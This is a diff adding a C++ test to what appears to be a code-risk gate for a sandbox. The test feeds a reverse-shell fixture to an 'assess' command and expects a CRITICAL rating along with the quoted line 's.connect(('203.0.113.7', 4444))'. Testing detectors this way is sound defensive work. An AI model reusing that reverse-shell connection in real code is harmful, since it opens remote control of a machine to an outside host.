@@ -1,8 +1,15 @@
 // CARS in front of the sandbox, through the real server: the Assess RPC and
 // the gate in Execute with the default policy (HIGH → approval, CRITICAL →
 // block).
+#include <sys/wait.h>
 #include <unistd.h>
 
+#include <cstdio>
+#include <cstdlib>
+#include <fstream>
+#include <string>
+
+#include "absl/strings/str_cat.h"
 #include "gmock/gmock.h"
 #include "grpcpp/grpcpp.h"
 #include "gtest/gtest.h"
@@ -11,6 +18,7 @@
 namespace forge::testing {
 namespace {
 
+using ::testing::ContainsRegex;
 using ::testing::HasSubstr;
 
 class CarsGateTest : public ::testing::Test {
@@ -70,6 +78,32 @@ TEST_F(CarsGateTest, AssessReadsCodeNotText) {
   EXPECT_EQ(critical.level(), forge::exec::v1::RISK_LEVEL_CRITICAL);
   ASSERT_GT(critical.findings_size(), 0);
   EXPECT_GT(critical.findings(0).line(), 0u);
+}
+
+TEST_F(CarsGateTest, CliAssessPrintsLevelFindingsAndExcerpts) {
+  char dir[] = "/tmp/forge-assess-XXXXXX";
+  ASSERT_NE(::mkdtemp(dir), nullptr);
+  const std::string path = absl::StrCat(dir, "/shell.py");
+  std::ofstream(path) << kReverseShell;
+  const std::string command =
+      absl::StrCat(BuildDir(), "/client/forge-exec --server ",
+                   server_->address(), " assess ", path, " 2>&1");
+  FILE* pipe = ::popen(command.c_str(), "r");
+  ASSERT_NE(pipe, nullptr);
+  std::string out;
+  char buffer[4096];
+  size_t n;
+  while ((n = std::fread(buffer, 1, sizeof(buffer), pipe)) > 0)
+    out.append(buffer, n);
+  const int status = ::pclose(pipe);
+  std::system(absl::StrCat("rm -rf ", dir).c_str());
+  ASSERT_TRUE(WIFEXITED(status)) << out;
+  EXPECT_EQ(WEXITSTATUS(status), 0) << out;
+  // The level, then each finding as line:col, score, type and rule, with
+  // the source line it points at.
+  EXPECT_THAT(out, HasSubstr("Risk: CRITICAL")) << out;
+  EXPECT_THAT(out, ContainsRegex("[0-9]+:[0-9]+ +\\[0\\.[0-9]+\\]")) << out;
+  EXPECT_THAT(out, HasSubstr("| s.connect(('203.0.113.7', 4444))")) << out;
 }
 
 TEST_F(CarsGateTest, AssessRejectsBadRequestsByField) {
